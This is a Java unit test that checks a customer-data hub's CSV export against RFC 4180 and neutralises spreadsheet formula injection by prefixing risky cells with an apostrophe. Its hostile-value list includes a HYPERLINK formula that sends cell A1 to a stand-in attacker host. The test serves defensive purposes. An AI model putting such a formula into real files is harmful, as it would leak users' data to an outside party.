package io.customerhub.jobs.export;

import static org.assertj.core.api.Assertions.assertThat;

import io.customerhub.jobs.spark.SparkTestBase;
import io.customerhub.jobs.table.HubTables;
import java.io.IOException;
import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.spark.sql.Row;
import org.apache.spark.sql.RowFactory;
import org.apache.spark.sql.types.DataTypes;
import org.apache.spark.sql.types.StructType;
import org.junit.jupiter.api.Test;

/** CSV exports of real Delta tables read back by a strict RFC 4180 parser (Commons CSV), with hostile values. */
class ExportActionTest extends SparkTestBase {

    private static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click\")", "+33 6 12 34 56 78", "-2+3", "@SUM(A1:A9)",
            "\tTAB", "\rCR", "O'Brien \"the \\\"quoted\\\"\", Jr.", "line one\nline two", "  padded  ", "", "Dupont, Marie");

    @Test
    void csvExportsAreRfc4180AndSpreadsheetSafe() throws IOException {
        HubTables tables = new HubTables(tempDir.resolve("hub").toString());
        StructType golden = new StructType().add("golden_id", DataTypes.StringType).add("family_name", DataTypes.StringType)
                .add("cluster_size", DataTypes.IntegerType).add("emails", DataTypes.createArrayType(DataTypes.StringType));
        List<Row> goldenRows = new ArrayList<>();
        for (int i = 0; i < HOSTILE.size(); i++) {
            goldenRows.add(RowFactory.create("g-" + i, HOSTILE.get(i), -i, List.of(HOSTILE.get(i))));
        }
        goldenRows.add(RowFactory.create("g-null", null, 0, null));
        spark().createDataFrame(goldenRows, golden).write().format("delta").save(tables.golden());
        StructType quarantine = new StructType().add("source", DataTypes.StringType).add("line", DataTypes.LongType)
                .add("raw_text", DataTypes.StringType);
        List<Row> quarantineRows = HOSTILE.stream().map(v -> RowFactory.create("crm", 2L, "C1;" + v)).toList();
        spark().createDataFrame(quarantineRows, quarantine).write().format("delta").save(tables.quarantine());

        ExportAction export = new ExportAction(spark(), tables);
        List<CSVRecord> goldenCsv = readBack(export.export("golden", ExportAction.Format.CSV, tempDir.resolve("g").toString(), null, 1, false).out());
        assertThat(goldenCsv).hasSize(HOSTILE.size() + 2);
        assertThat(goldenCsv.get(0).values()).containsExactly("golden_id", "family_name", "cluster_size", "emails");
        for (int i = 0; i < HOSTILE.size(); i++) {
            CSVRecord row = goldenCsv.get(i + 1);
            assertThat(row.size()).isEqualTo(4);
            assertThat(row.get(0)).isEqualTo("g-" + i);
            assertThat(row.get(1)).as(HOSTILE.get(i)).isEqualTo(spreadsheetSafe(HOSTILE.get(i)));
            assertThat(row.get(2)).as("numbers are numbers, not text").isEqualTo(String.valueOf(-i));
            assertThat(row.get(3)).startsWith("[\"");
        }
        assertThat(goldenCsv.get(1).get(1)).startsWith("'=HYPERLINK(");
        assertThat(goldenCsv.get(2).get(1)).isEqualTo("'+33 6 12 34 56 78");
        assertThat(goldenCsv.get(HOSTILE.size() + 1).get(1)).as("null").isEmpty();

        List<CSVRecord> quarantineCsv = readBack(export.export("quarantine", ExportAction.Format.CSV, tempDir.resolve("q").toString(), null, 1, false).out());
        assertThat(quarantineCsv).hasSize(HOSTILE.size() + 1);
        for (int i = 0; i < HOSTILE.size(); i++) {
            assertThat(quarantineCsv.get(i + 1).values()).containsExactly("crm", "2", "C1;" + HOSTILE.get(i));
        }
    }

    private static String spreadsheetSafe(String value) {
        return !value.isEmpty() && "=+-@\t\r".indexOf(value.charAt(0)) >= 0 ? "'" + value : value;
    }

    private static List<CSVRecord> readBack(String folder) throws IOException {
        Path part;
        try (Stream<Path> files = Files.list(Path.of(folder))) {
            part = files.filter(p -> p.getFileName().toString().startsWith("part-")).findFirst().orElseThrow();
        }
        try (Reader in = Files.newBufferedReader(part, StandardCharsets.UTF_8);
             CSVParser parser = CSVParser.parse(in, CSVFormat.RFC4180)) {
            return parser.getRecords();
        }
    }
}
